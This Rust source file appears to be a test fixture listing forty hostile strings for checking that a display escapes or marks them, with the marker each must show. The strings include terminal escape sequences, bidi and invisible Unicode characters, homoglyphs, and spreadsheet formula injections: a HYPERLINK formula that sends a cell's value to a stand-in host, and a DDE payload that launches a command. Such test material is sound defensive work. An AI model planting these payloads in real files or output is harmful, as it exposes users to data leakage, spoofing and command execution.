//! Forty texts that a shopper, a colleague or a proxy could choose, each with what a reader must see of it.

use std::sync::LazyLock;

/// A name, the text, and the sign of it that must be seen; `None` where letters of a script stay as they are.
type Hostile = (String, String, Option<String>);

/// The twelve characters of Unicode's `Bidi_Control` property.
const BIDI: [char; 12] = [
    '\u{61c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}',
    '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
];

/// Every text begins with two plain letters, as an id does, unless its beginning is what is hostile.
const OTHERS: [(&str, &str, Option<&str>); 21] = [
    ("clear the screen", "O1\u{1b}[2J\u{1b}[H", Some("␛[2J")),
    ("a title", "O1\u{1b}]0;paid\u{7}", Some("␛]0")),
    ("a question to the clipboard", "O1\u{1b}]52;c;?\u{1b}\\", Some("␛]52")),
    ("a device control string", "O1\u{1b}P+q544e\u{1b}\\", Some("␛P+")),
    ("an application command", "O1\u{1b}_Gi=1;AAAA\u{1b}\\", Some("␛_G")),
    ("a sequence in one byte", "O1\u{9b}31m\u{9d}0;x\u{9c}", Some("<U+009B>")),
    ("a bell", "O1\u{7}", Some("␇")),
    ("line ends", "O1\r\nP2\rP3", None),
    ("tabs", "O1\t=1+1\t", Some("→")),
    ("nothing", "O1\0P2", Some("␀")),
    ("line separators", "O1\u{2028}P2\u{2029}", Some("<U+2028>")),
    ("annotations", "O1\u{fff9}x\u{fffa}y\u{fffb}", Some("<U+FFF9>")),
    ("no width", "O1\u{200b}\u{2060}\u{feff}\u{ad}\u{180e}", Some("<U+200B>")),
    ("fillers", "O1\u{3164}\u{115f}\u{1160}\u{ffa0}\u{2800}", Some("<U+3164>")),
    ("tags", "O1\u{e0041}\u{e0042}\u{e007f}", Some("<U+E0041>")),
    ("selectors", "O1\u{fe00}\u{fe0f}\u{e0100}", Some("<U+FE00>")),
    ("joined people", "O1\u{200d}👩\u{200d}👩\u{200d}👧", Some("<U+200D>")),
    ("Arabic", "مرحبا O1 فاتورة", None),
    ("letters that pass for Latin ones", "P16424\u{430}06", Some("<U+0430>")),
    ("a formula", "=HYPERLINK(\"http://x.example/?\"&A1,\"O1\")", Some("=HYPER")),
    ("a call", "@SUM(1)*cmd|' /C calc'!A0", Some("@SUM")),
];

pub(super) static STRINGS: LazyLock<Vec<Hostile>> = LazyLock::new(|| {
    let owned = |(name, text, token): (&str, &str, Option<&str>)| {
        (name.to_owned(), text.to_owned(), token.map(str::to_owned))
    };
    let bidi = BIDI.iter().map(|c| {
        let code = format!("U+{:04X}", u32::from(*c));
        (code.clone(), format!("O1{c}2"), Some(format!("<{code}>")))
    });
    let all = |codes: std::ops::RangeInclusive<u32>| codes.filter_map(char::from_u32).collect::<String>();
    let quiet: String = all(1..=31).chars().filter(|c| !"\n\r\t".contains(*c)).collect();
    let more = [
        ("all of C0".to_owned(), format!("O1{quiet}"), Some("␁".to_owned())),
        ("delete and all of C1".to_owned(), format!("O1\u{7f}{}", all(0x80..=0x9f)), Some("␡".to_owned())),
        ("a tower of marks".to_owned(), format!("O1{}", "\u{301}".repeat(300)), Some("<U+0301>".to_owned())),
        ("wide letters".to_owned(), "陈".repeat(200), None),
        (
            "half a surrogate pair".to_owned(),
            format!("O1{}", String::from_utf16_lossy(&[0xd83d, 0x78])),
            None,
        ),
        (
            "bytes of a proxy".to_owned(),
            String::from_utf8_lossy(b"<html>\xff\xfe\x1b[31m\xc0\xaf</html>").into_owned(),
            Some("␛[31m".to_owned()),
        ),
        ("64 KiB".to_owned(), "O1\u{202e}\u{1b}[2J\n".repeat(64 * 1024 / 10), Some("<U+202E>".to_owned())),
    ];
    bidi.chain(OTHERS.map(owned)).chain(more).collect()
});
